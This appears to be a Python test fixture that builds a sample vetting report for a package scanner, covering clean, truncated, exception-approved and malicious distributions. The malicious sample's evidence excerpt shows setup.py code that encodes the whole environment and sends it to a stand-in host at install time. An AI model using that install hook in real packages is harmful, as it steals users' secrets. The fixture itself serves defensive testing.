"""A vetting report with everything that a report can hold."""

from __future__ import annotations

from datetime import UTC, date, datetime

from stockade.model.assessment import Accepted
from stockade.model.findings import Confidence, Finding, Rule, Severity
from stockade.model.locations import Location
from stockade.model.requirements import LeftOut
from stockade.model.stages import Stage
from stockade.model.verdicts import Action, Cause, Indeterminate, Reason
from stockade.model.vetting import Detection, Phase, Step, VetReport, VetResult

NOON = datetime(2026, 11, 22, 12, tzinfo=UTC)

STEAL = Rule(
    id="STK-E901",
    name="sample-theft",
    stage=Stage.EVALUATION,
    title="Secrets leave the machine",
    severity=Severity.CRITICAL,
    why="Whoever installs it gives away every secret of the environment.",
    mend="Do not install it; where it ran, change every secret.",
    references=("MITRE ATT&CK T1552",),
)
CONTEXT = Rule(
    id="STK-E902",
    name="sample-context",
    stage=Stage.EVALUATION,
    title="It speaks to the network",
    severity=Severity.INFO,
    why="A network client does that.",
    mend="Know why.",
)


def detection(rule: Rule, path: str, line: int, **more: object) -> Detection:
    fields: dict[str, object] = {
        "rule": rule.id,
        "title": rule.title,
        "stage": rule.stage,
        "severity": rule.severity,
        "confidence": Confidence.HIGH,
        "subject": "evil==1.0",
        "message": "something was seen",
        "mend": rule.mend,
        "why": rule.why,
        "location": Location(path, line),
        "references": rule.references,
        "phase": Phase.INSTALL,
    }
    return Detection(**{**fields, **more})  # type: ignore[arg-type]  # the fields are those above


THEFT = detection(
    STEAL,
    "evil-1.0/setup.py",
    14,
    message="the whole environment is encoded and sent to collect.invalid",
    evidence=(("host", "collect.invalid"), ("callee", "urllib.request.urlopen")),
    chain=(
        Step(
            role="source",
            what="os.environ (the whole environment)",
            location=Location("evil-1.0/setup.py", 9),
        ),
        Step(role="transformation", what="json.dumps", location=Location("evil-1.0/setup.py", 10)),
        Step(role="transformation", what="base64.b64encode", location=Location("evil-1.0/setup.py", 10)),
        Step(
            role="sink",
            what="urllib.request.urlopen to https://collect.invalid/v1/submissions/of/everything",
            location=Location("evil-1.0/setup.py", 14),
        ),
    ),
    excerpt=(
        (13, "        body = base64.b64encode(json.dumps(dict(os.environ)).encode())"),
        (14, "        urllib.request.urlopen('https://collect.invalid/v1/submissions', body)"),
        (15, "        super().run()"),
    ),
    decoded="https://collect.invalid/v1/submissions",
)
TALKS = detection(CONTEXT, "evil-1.0/evil/api.py", 3, phase=Phase.CALL)
UNSURE = detection(
    STEAL,
    "evil-1.0/evil/__init__.py",
    2,
    severity=Severity.MEDIUM,
    confidence=Confidence.LOW,
    phase=Phase.IMPORT,
    message="code is decoded and executed",
)
RULES = ("STK-E901", "STK-E902")

BAD = VetResult(
    path="dist/evil-1.0.tar.gz",
    sha256="1" * 64,
    kind="sdist",
    project="evil",
    version="1.0",
    size=3_412,
    files=4,
    verdict=Action.BLOCK,
    score=0.991,
    reasons=(Reason("STK-E901", "the whole environment is sent", Action.BLOCK),),
    findings=(THEFT, UNSURE, TALKS),
    ruleset="r" * 64,
    judged_by=RULES,
)
TORN = VetResult(
    path="dist/torn-2.0.whl",
    sha256="2" * 64,
    kind="wheel",
    size=120_000_000,
    files=3,
    verdict=Action.QUARANTINE,
    score=0.0,
    reasons=(Reason("indeterminate:unreadable", "truncated", Action.QUARANTINE),),
    incomplete=(
        Indeterminate(
            cause=Cause.UNREADABLE,
            subject="dist/torn-2.0.whl",
            detail="the archive ends in the middle of torn/core.py",
            mend="Fetch it again.",
        ),
    ),
    ruleset="r" * 64,
)
ACCEPTED = VetResult(
    path="dist/known-3.0-py3-none-any.whl",
    sha256="3" * 64,
    kind="wheel",
    project="known",
    version="3.0",
    size=8_000,
    files=12,
    verdict=Action.ALLOW,
    score=0.31,
    reasons=(Reason("exception:STK-E901", "accepted", Action.ALLOW),),
    accepted=(
        Accepted(
            finding=Finding(
                rule=STEAL.id,
                title=STEAL.title,
                stage=STEAL.stage,
                severity=STEAL.severity,
                confidence=Confidence.HIGH,
                subject="known==3.0",
                message="it is a credential tool",
                mend=STEAL.mend,
                why=STEAL.why,
                location=Location("known/tool.py", 5),
            ),
            reason="it is our own back-up tool",
            expires=date(2026, 12, 31),
            approved_by="security",
        ),
    ),
    ruleset="r" * 64,
    judged_by=RULES,
)
CLEAN = VetResult(
    path="dist/good-1.0-py3-none-any.whl",
    sha256="4" * 64,
    kind="wheel",
    project="good",
    version="1.0",
    size=950,
    files=9,
    verdict=Action.ALLOW,
    score=0.004,
    reasons=(Reason("judged", "judged by 2 rules, nothing found", Action.ALLOW),),
    ruleset="r" * 64,
    judged_by=RULES,
)

REPORT = VetReport(
    version="0.1.0",
    judged_at=NOON,
    exit_code=1,
    results=(CLEAN, TORN, BAD, ACCEPTED),
    left_out=(LeftOut("dist/notes.txt", "not named like a distribution"),),
    confinement=("limits", "files", "calls"),
    notes=("the policy is stockade.toml",),
)
